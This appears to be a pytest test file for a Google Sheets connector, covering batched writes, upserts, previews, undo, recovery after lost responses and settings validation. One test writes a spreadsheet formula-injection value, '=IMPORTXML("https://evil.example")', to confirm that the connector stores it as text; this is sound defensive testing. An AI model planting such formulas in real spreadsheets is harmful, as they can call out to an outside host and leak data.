"""What is special about Google Sheets: few requests, nothing computed unasked, columns by name, and rows taken back."""

import pytest

from connectors.google._sheets_tab import columns, spreadsheets, tabs
from connectors.google._sheets_write import MARKS
from connectors.google.sheets import (
    check,
    find,
    find_rows,
    new_spreadsheet,
    preview,
    row_changed,
    undo,
    write_rows,
)
from connectors.sdk import ChangeKind, CredentialsError, Receipt, Record, Rejected, SettingsError, TemporaryError, fill

HEAD = ["Number", "Total", "Paid"]
BATCH = "sheets.spreadsheets.batchUpdate"


def record(number, **row):
    return Record(key=f"KEY-{number}", rows=[{"Number": f"INV-{number}", **row}])


@pytest.fixture
def book(sheets):
    return sheets.put("Books", [HEAD, ["INV-1", 100, False], ["INV-2", 200, True], ["INV-3", "=B2+B3", ""]])


@pytest.fixture
def rows(sheets, book):
    return lambda: sheets.tab(book).texts()[1:]


@pytest.fixture
def writing(use, book):
    def context(**settings):
        named = {"columns": dict.fromkeys(HEAD, ""), "spreadsheet": book, "tab": "Invoices", **settings}
        return use("google_sheets.write_rows", **named)

    return context


@pytest.fixture
def upserting(writing):
    return lambda **settings: writing(mode="upsert", key=["Number"], **settings)


@pytest.mark.parametrize("mode", [{}, {"mode": "upsert", "key": ["Number"]}], ids=["append", "upsert"])
async def test_writes_10000_rows_in_at_most_20_requests(writing, peer, rows, mode, record_property):
    records = [record(number, Total=number) for number in range(1, 10_001)]
    for start in range(0, len(records), 1000):
        await write_rows(writing(**mode), records[start : start + 1000])
    record_property("measured", len(peer.asked))
    assert len(peer.asked) <= 20
    assert len({row[0] for row in rows()}) == 10_000


async def test_computes_nothing_that_was_not_asked_for(writing, sheets, book):
    await write_rows(writing(), [record(4, Total='=IMPORTXML("https://evil.example")', Paid="+1")])
    assert sheets.tab(book).rows[-1][1:] == [
        {"stringValue": '=IMPORTXML("https://evil.example")'},
        {"stringValue": "+1"},
    ]


async def test_takes_texts_as_typed_where_that_was_chosen(writing, sheets, book):
    await write_rows(writing(values="typed"), [record(4, Total="=1+1", Paid="2026-11-22"), record(5, Total="12.50")])
    assert sheets.tab(book).rows[-2][1:] == [{"formulaValue": "=1+1"}, {"numberValue": 46348}]
    assert sheets.tab(book).rows[-1][1] == {"numberValue": 12.5}


async def test_keeps_every_digit_of_what_no_cell_holds_as_a_number(writing, sheets, book):
    await write_rows(writing(), [record(4, Total=12345678901234567890, Paid={"a": [1]})])
    assert sheets.tab(book).rows[-1][1:] == [{"stringValue": "12345678901234567890"}, {"stringValue": '{"a":[1]}'}]


async def test_maps_columns_by_name_wherever_they_stand(writing, sheets, book, rows):
    sheets.tab(book).rows[0].reverse()
    await write_rows(writing(), [record(4, paid=True)])
    assert rows()[-1] == [True, "", "INV-4"]


async def test_names_the_columns_of_an_empty_tab(use, sheets):
    empty = sheets.put("Empty", [])
    context = use("google_sheets.write_rows", spreadsheet=empty, tab="invoices", columns={"Number": "", "Total": ""})
    await write_rows(context, [record(1, Total=5)])
    assert sheets.tab(empty).texts() == [["Number", "Total"], ["INV-1", 5]]


async def test_changes_the_row_of_the_key_and_adds_the_others(upserting, rows):
    outcome = await write_rows(upserting(), [record(2, Total=250), record(9, Total=900), record(9, Paid=True)])
    assert rows() == [["INV-1", 100, False], ["INV-2", 250, True], ["INV-3", "=B2+B3"], ["INV-9", 900, True]]
    assert [one.output for one in outcome] == [
        {"rows": 1, "added": 0, "changed": 1},
        {"rows": 1, "added": 1, "changed": 0},
        {"rows": 1, "added": 0, "changed": 1},
    ]


async def test_previews_old_and_new(upserting, peer):
    writes = peer.writes
    [[changed], [added], unchanged] = await preview(
        upserting(), [record(2, Total=250), record(9, Total=900), record(1, Total=100)]
    )
    assert (changed.kind, changed.before) == (ChangeKind.CHANGE, {"Number": "INV-2", "Total": 200})
    assert changed.after == {"Number": "INV-2", "Total": 250}
    assert (added.kind, added.after) == (ChangeKind.ADD, {"Number": "INV-9", "Total": 900})
    assert unchanged == []
    assert peer.writes == writes


async def test_leaves_a_row_out_that_could_be_several(upserting, sheets, book, rows):
    sheets.tab(book).rows.append([{"stringValue": "INV-2"}])
    refused, written = await write_rows(upserting(), [record(2, Total=1), record(1, Total=1)])
    assert isinstance(refused, Rejected)
    assert refused.message == "The tab Invoices has 2 rows with Number INV-2, so it is not clear which one is meant."
    assert isinstance(written, Receipt)
    assert rows()[0][1] == 1


async def test_undoes_changes_and_additions_wherever_the_rows_are_now(upserting, sheets, book, rows):
    before = rows()
    receipts = await write_rows(upserting(), [record(2, Total=250), record(3, Total=1), record(9, Total=900)])
    tab = sheets.tab(book)
    tab.rows.insert(1, tab.rows.pop())
    for receipt in reversed(receipts):
        await undo(upserting(), receipt)
    assert rows() == before


@pytest.mark.parametrize("mode", [{}, {"mode": "upsert", "key": ["Number"]}], ids=["append", "upsert"])
async def test_undoes_nothing_that_somebody_has_changed(writing, sheets, book, rows, mode):
    [receipt] = await write_rows(writing(**mode), [record(9, Total=900)])
    sheets.tab(book).rows[-1][1] = {"numberValue": 901}
    with pytest.raises(SettingsError, match="has changed since it was written"):
        await undo(writing(**mode), receipt)
    assert rows()[-1] == ["INV-9", 901]


async def test_finds_by_its_mark_what_was_written_though_the_answer_was_lost(writing, around, peer, rows):
    peer.lost.append(BATCH)
    with pytest.raises(TemporaryError) as failed:
        await write_rows(writing(), [record(9, Total=900), Record(key="LONG", rows=[{"Number": "x" * 50_001}])])
    token = around.remembered[-1]
    assert failed.value.uncertain
    assert isinstance(await find(writing(), record(9), token), Receipt)
    assert await find(writing(), Record(key="LONG"), token) is None
    assert [row[0] for row in rows()].count("INV-9") == 1


async def test_says_when_a_mark_is_too_old_to_be_kept(writing, around, sheets, book):
    await write_rows(writing(), [record(9, Total=900)])
    first = around.remembered[-1]
    for number in range(MARKS):
        await write_rows(writing(), [record(number, Total=900)])
    assert len(sheets.tab(book).marks) == MARKS
    with pytest.raises(SettingsError, match="no longer knows"):
        await find(writing(), record(9), first)


async def test_tells_which_column_was_renamed(writing, sheets, book):
    sheets.tab(book).rows[0][1] = {"stringValue": "Total amount"}
    with pytest.raises(SettingsError) as refused:
        await write_rows(writing(), [record(4, Total=1)])
    assert refused.value.message == (
        "The tab Invoices has no column Total. Its head has: Number, Total amount, Paid."
        " Perhaps Total was renamed to Total amount."
    )


async def test_tells_that_a_tab_is_gone(writing):
    with pytest.raises(SettingsError, match="has no tab Old"):
        await write_rows(writing(tab="Old"), [record(4, Total=1)])


async def test_goes_on_where_making_a_spreadsheet_was_cut(use, peer, sheets):
    context = use("google_sheets.new_spreadsheet", title="March", columns={})
    peer.lost.append(BATCH)
    with pytest.raises(TemporaryError):
        await new_spreadsheet(context, record(1, Total=5))
    receipt = await new_spreadsheet(context, record(1, Total=5))
    assert peer.count("drive.files.create") == 1
    assert sheets.tab(receipt.reference).texts() == [["Number", "Total"], ["INV-1", 5]]


async def test_offers_spreadsheets_tabs_and_columns(use, book):
    context = use("google_sheets.write_rows", spreadsheet=book, tab="Invoices", columns={})
    assert [(choice.value, choice.text) for choice in await spreadsheets(context)] == [(book, "Books")]
    assert [choice.value for choice in await tabs(context)] == ["Invoices"]
    assert [choice.value for choice in await columns(context)] == HEAD


async def test_starts_again_for_a_row_that_changed(use, sheets, book):
    context = use("google_sheets.row_changed", spreadsheet=book, tab="Invoices", key=["Number"], notice="changed")
    first = [item async for item in row_changed(context, None)]
    sheets.tab(book).rows[2][1] = {"numberValue": 201}
    again = [item async for item in row_changed(context, first[-1].cursor) if item.content is not None]
    assert [item.content["values"] for item in again] == [{"Number": "INV-2", "Total": 201, "Paid": True}]


async def test_counts_rows_that_are_alike(use, sheets, book):
    context = use("google_sheets.row_changed", spreadsheet=book, tab="Invoices", existing="skip")
    [base] = [item async for item in row_changed(context, None)]
    sheets.tab(book).rows += [[{"stringValue": "INV-1"}, {"numberValue": 100}, {"boolValue": False}]] * 2
    new = [item async for item in row_changed(context, base.cursor) if item.content is not None]
    assert [item.content["row"] for item in new] == [5, 6]


async def test_finds_the_rows_in_which_something_stands(use, book):
    named = {"spreadsheet": book, "tab": "Invoices", "matches": {"Total": 200, "paid": True}}
    found = await find_rows(use("google_sheets.find_rows", **named))
    assert (found["count"], found["first"]["row"], found["more"]) == (1, 3, False)


async def test_proves_its_credentials(use, peer, sheets, connection):
    context = use("google_sheets.find_rows", spreadsheet="1AbCdEfGhIj", tab="Invoices")
    await check(connection, context)
    peer.fault = "403 scope"
    with pytest.raises(CredentialsError, match="Check what it may do"):
        await check(connection, context)


@pytest.mark.parametrize(
    ("settings", "sentence"),
    [
        ({"spreadsheet": "https://example.com/x"}, "Paste the link"),
        ({"tab": " "}, "Name the tab"),
        ({"mode": "upsert"}, "needs key columns"),
        ({"mode": "upsert", "key": ["Other"]}, "not among the columns"),
    ],
)
def test_refuses_settings_that_cannot_work(settings, sentence):
    named = {"spreadsheet": "1AbCdEfGhIj", "tab": "Invoices", "columns": {"Number": ""}, **settings}
    with pytest.raises(ValueError, match=sentence):
        fill(write_rows.settings, named)
